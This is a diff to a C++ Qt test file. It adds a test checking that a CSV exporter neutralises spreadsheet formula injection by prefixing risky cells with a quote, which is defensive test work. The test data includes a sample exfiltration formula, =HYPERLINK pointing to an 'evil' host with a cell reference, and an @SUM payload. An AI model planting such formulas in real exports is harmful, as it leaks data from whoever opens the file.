@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: MIT
 // Transcript JSON and CSV: round trips through write → read → restore, and clear refusals of
 // malformed or newer documents.
+#include "core/io/strategy_record_csv.h"
 #include "core/io/transcript_csv.h"
 #include "core/io/transcript_json.h"
 #include "tests/synthetic_table.h"
@@ -44,6 +45,7 @@ private Q_SLOTS:
     void roundTrip();
     void documentFields();
     void csv();
+    void csvNeutralisesFormulas();
     void malformed_data();
     void malformed();
 };
@@ -125,6 +127,32 @@ void TestTranscript::csv()
     QVERIFY(lines[0].contains(QStringLiteral("cost_epsilon")));
     QVERIFY(lines[1].contains(QStringLiteral("\"region == \"\"south\"\"\""))); // RFC 4180 quoting
     QVERIFY(lines[3].contains(QStringLiteral(",refused,")));
+}
+
+// Issue 26: cells starting with = + - @ TAB or CR were written as they are; spreadsheets run
+// them (=HYPERLINK(…) sends data away). OWASP's CSV-injection advice: a leading '.
+void TestTranscript::csvNeutralisesFormulas()
+{
+    QCOMPARE(io::csvField("=HYPERLINK(\"http://x\")"), std::string("\"'=HYPERLINK(\"\"http://x\"\")\""));
+    QCOMPARE(io::csvField("@SUM(A1:A9)"), std::string("'@SUM(A1:A9)"));
+    QCOMPARE(io::csvField("+1"), std::string("'+1"));
+    QCOMPARE(io::csvField("-1"), std::string("'-1"));
+    QCOMPARE(io::csvField("\tx"), std::string("'\tx"));
+    QCOMPARE(io::csvField("\rx"), std::string("\"'\rx\""));
+    QCOMPARE(io::csvField("a=b"), std::string("a=b")); // only a leading character starts a formula
+    QCOMPARE(io::csvField(""), std::string());
+    // In the ledger export: an id and a reason as a user could type them.
+    session::LedgerEvent e;
+    e.request.id = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
+    e.status = session::EventStatus::Released;
+    e.strategyRecord.emplace();
+    e.strategyRecord->labels = {"@SUM(1+1)", "south"};
+    e.strategyRecord->values = {1.0, 2.0};
+    const auto csv = io::writeStrategyRecordCsv(e);
+    QVERIFY(csv.ok());
+    QVERIFY2(csv->find("\r\n\"'=HYPERLINK(") != std::string::npos, csv->c_str());
+    QVERIFY2(csv->find(",'@SUM(1+1),") != std::string::npos, csv->c_str());
+    QVERIFY(csv->find(",south,") != std::string::npos);
 }
 
 void TestTranscript::malformed_data()
